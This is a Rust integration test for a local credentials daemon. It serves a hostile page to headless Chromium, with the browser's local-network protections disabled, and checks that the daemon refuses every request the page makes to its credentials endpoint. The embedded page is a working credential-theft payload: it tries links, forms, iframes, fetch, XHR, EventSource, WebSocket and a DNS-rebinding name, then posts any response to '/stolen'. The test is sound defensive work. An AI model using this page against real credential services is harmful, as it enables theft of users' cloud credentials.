//! Pages in a real browser that try to fetch the credentials of the browser's user (T4). The
//! requests are captured in src/http/request_validation/tests/heads.txt.

use std::io::{BufRead, BufReader, Write};
use std::net::{SocketAddr, TcpListener};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

use crate::harness::client::fetch;
use crate::harness::counterparts::process::run;
use crate::harness::counterparts::{folder, skip};
use crate::harness::daemon::Daemon;
use crate::harness::upstream::{Upstream, my_rule};

/// All ways in which a page makes a browser send a request. `TO` is the endpoint, `REBOUND` the
/// same by a name of the page's.
const PAGE: &str = r#"<!doctype html><title>page</title>
<link rel=stylesheet href="TO"><img src="TO"><script src="TO"></script><script type=module src="TO"></script>
<iframe src="TO"></iframe><object data="TO"></object>
<form id=form action="TO" target=frame></form><iframe name=frame></iframe>
<a id=link href="TO" target=other></a><iframe name=other></iframe>
<script>
const get = (url, how) => fetch(url, how).then(answer => answer.text()).then(text => text && fetch("/stolen", {method: "POST", body: text})).catch(() => 0);
get("TO"); get("TO", {headers: {Authorization: "x"}});
get("TO", {mode: "no-cors"}); get("TO", {mode: "no-cors", referrerPolicy: "no-referrer"});
get("REBOUND"); get("REBOUND", {headers: {Authorization: "x"}});
new EventSource("TO"); const xhr = new XMLHttpRequest(); xhr.open("GET", "TO"); xhr.send();
try { new WebSocket("TO".replace("http", "ws")); } catch (error) {}
form.submit(); link.click();
</script>"#;

/// Serves the page for every path, and ends with the test process. The first line of each request
/// is added to the file.
fn serve(page: String, requests: &Path) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap();
    let mut requests = std::fs::File::create(requests).unwrap();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let mut line = String::new();
            if BufReader::new(&stream).read_line(&mut line).is_ok() {
                requests.write_all(line.as_bytes()).unwrap();
            }
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
                page.len()
            );
            // A browser that disconnects loses its page.
            let _ = stream.write_all((head + &page).as_bytes());
        }
    });
    address
}

#[test]
fn browser_page_is_rejected() {
    let chromium = Path::new("/usr/bin/chromium");
    if !chromium.exists() {
        return skip("chromium is missing: run tests/counterparts/get browser");
    }
    let folder = folder();
    let upstream = Upstream::start_for_me();
    // No other check rejects them.
    let daemon = Daemon::start(
        folder.path(),
        "authorization = \"off\"\n",
        &(upstream.configuration() + &my_rule()),
    )
    .ready();
    let before = daemon.audit().len();
    let port = daemon.tcp().port();
    let page = PAGE.replace("TO", &format!("http://127.0.0.1:{port}/v1/credentials"));
    let page = page.replace(
        "REBOUND",
        &format!("http://rebound.test:{port}/v1/credentials"),
    );
    let requests = folder.path().join("requests");
    let address = serve(page, &requests);
    // Another site, and another port of the same one.
    for host in ["page.test", "127.0.0.1"] {
        let mut browser = Command::new(chromium);
        browser.args([
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--virtual-time-budget=5000",
            "--dump-dom",
        ]);
        browser.arg("--host-resolver-rules=MAP *.test 127.0.0.1");
        // The browser's own protection against such pages is switched off.
        browser
            .arg("--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests");
        browser.arg(format!(
            "--user-data-dir={}",
            folder.path().join(host).display()
        ));
        browser.arg(format!("http://{host}:{}/", address.port()));
        run(browser, b"", Duration::from_secs(180)).success("chromium");
    }
    let paths = std::fs::read_to_string(&requests).unwrap();
    assert!(!paths.contains("/stolen"), "{paths}");
    let records = daemon.audit().split_off(before);
    assert!(
        records.iter().all(|record| record["outcome"] == "refused"),
        "{records:?}"
    );
    let rejected = |reason: &str| {
        daemon.metric(&format!(
            "awsvid_requests_total{{listener=\"tcp\",protocol=\"container\",outcome=\"refused\",reason=\"{reason}\"}}"
        ))
    };
    // Twice each. Of those to the rebound name, one is sent without a preflight.
    let (browser, host) = (rejected("browser"), rejected("host"));
    assert!(
        browser >= 2 * 14 && host >= 2,
        "{browser} and {host} requests came"
    );
    // The same user gets credentials if the request is not a page's.
    assert_eq!(fetch(UnixStream::connect(daemon.unix()).unwrap()).0, 200);
}
